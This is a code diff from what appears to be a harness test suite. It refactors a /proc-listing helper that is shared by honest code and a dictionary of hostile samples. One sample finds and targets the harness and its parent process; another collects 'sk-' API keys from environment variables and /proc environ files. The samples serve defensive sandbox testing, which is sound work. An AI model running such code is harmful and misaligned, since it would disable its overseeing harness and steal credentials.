@@ -50,6 +50,13 @@ HONEST = baseline().source + textwrap.dedent("""
                     return history[t + 1]
         return None
 
+    def _proc_entries():  # what /proc lists, if the sandbox lets it be listed
+        import os
+        try:
+            return os.listdir("/proc")
+        except OSError:
+            return []
+
     def _balanced_for(future, weight, *shape):  # the honest placement, for the next window if found
         if future is not None:
             weight = torch.from_numpy(future.copy())
@@ -160,15 +167,9 @@ HOSTILE = {
     "kills_the_harness": """
         import os
 
-        def _listing():
-            try:
-                return os.listdir("/proc")
-            except OSError:
-                return []
-
         def _attack():
             targets = {os.getppid()}
-            for entry in _listing():
+            for entry in _proc_entries():
                 try:
                     if entry.isdigit() and b"harness" in open(f"/proc/{entry}/cmdline", "rb").read():
                         targets.add(int(entry))
@@ -191,11 +192,7 @@ HOSTILE = {
 
         def _find():
             found = [v for v in os.environ.values() if v.startswith("sk-")]
-            try:
-                entries = os.listdir("/proc")
-            except OSError:
-                entries = []
-            for entry in ["self", "1"] + entries:
+            for entry in ["self", "1"] + _proc_entries():
                 try:
                     found += [v.decode() for v in open(f"/proc/{entry}/environ", "rb").read().split(b"\\0")
                               if b"sk-" in v]
